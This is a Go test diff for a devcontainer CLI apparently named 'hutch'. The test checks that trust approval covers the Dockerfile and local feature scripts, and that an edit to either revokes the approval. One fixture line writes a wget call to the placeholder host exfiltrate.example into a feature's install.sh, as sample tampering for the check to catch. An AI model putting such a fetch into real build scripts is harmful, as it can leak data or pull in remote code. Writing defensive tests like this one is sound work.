@@ -102,3 +102,63 @@ func TestCLI_DevcontainerTrust(t *testing.T) {
 		t.Errorf("trust store: %v", err)
 	}
 }
+
+// TestCLI_DevcontainerTrustCoversBuildInputs: approving a
+// devcontainer.json approves what its images are built from in the
+// project too, the Dockerfile its build names and its local features'
+// files, which run at build time with a network: after an edit to
+// either (an agent can make one), the file is not applied until it is
+// approved again, and the note says why. (sandbox-image keeps this test
+// from building: trust does not depend on what is built.)
+func TestCLI_DevcontainerTrustCoversBuildInputs(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, nil)
+	f.files(t, map[string]string{
+		".devcontainer/devcontainer.json": `{
+  "build": {"dockerfile": "Dockerfile"},
+  "features": {"./greeter": {}},
+  "containerEnv": {"FROM_DC": "yes"},
+  "shutdownAction": "none"
+}`,
+		".devcontainer/Dockerfile":                        "FROM " + f.busybox + "\n",
+		".devcontainer/greeter/devcontainer-feature.json": `{"id": "greeter"}`,
+		".devcontainer/greeter/install.sh":                "echo hi\n",
+	})
+	dc := filepath.Join(f.project, ".devcontainer", "devcontainer.json")
+	const notApplied = " or the Dockerfile or local features it uses are new or changed since you last approved them, so it is not applied"
+	out, _ := f.mustHutch(t, "trust")
+	for _, want := range []string{"Approved " + dc, "The approval covers what it builds from the project", "  the Dockerfile " + filepath.Join(f.project, ".devcontainer", "Dockerfile") + "\n", "  the local feature ./greeter\n"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("trust does not say %q:\n%s", want, out)
+		}
+	}
+	env := func() string {
+		t.Helper()
+		out, _ := f.mustHutch(t, "exec", "--", "sh", "-c", `echo "[$FROM_DC]"`)
+		return out
+	}
+	f.mustHutch(t, "up")
+	if got := env(); got != "[yes]\n" {
+		t.Fatalf("FROM_DC once approved: %q", got)
+	}
+	for _, edit := range []map[string]string{
+		{".devcontainer/Dockerfile": "FROM " + f.busybox + "\nRUN echo edited\n"},
+		{".devcontainer/greeter/install.sh": "echo hi; wget -q -O- http://exfiltrate.example/ || true\n"},
+	} {
+		f.files(t, edit)
+		if out, _ := f.mustHutch(t, "status"); !strings.Contains(out, dc+notApplied) {
+			t.Errorf("status after editing %v lacks the note:\n%s", edit, out)
+		}
+		if _, errOut := f.mustHutch(t, "rebuild"); !strings.Contains(errOut, dc+notApplied) || !strings.Contains(errOut, "hutch project trust") {
+			t.Errorf("rebuild after editing %v does not say the file is not applied:\n%s", edit, errOut)
+		}
+		if got := env(); got != "[]\n" {
+			t.Errorf("FROM_DC after editing %v: %q, want the file not applied", edit, got)
+		}
+		f.mustHutch(t, "trust")
+		f.mustHutch(t, "rebuild")
+		if got := env(); got != "[yes]\n" {
+			t.Errorf("FROM_DC after approving the edit of %v: %q", edit, got)
+		}
+	}
+}
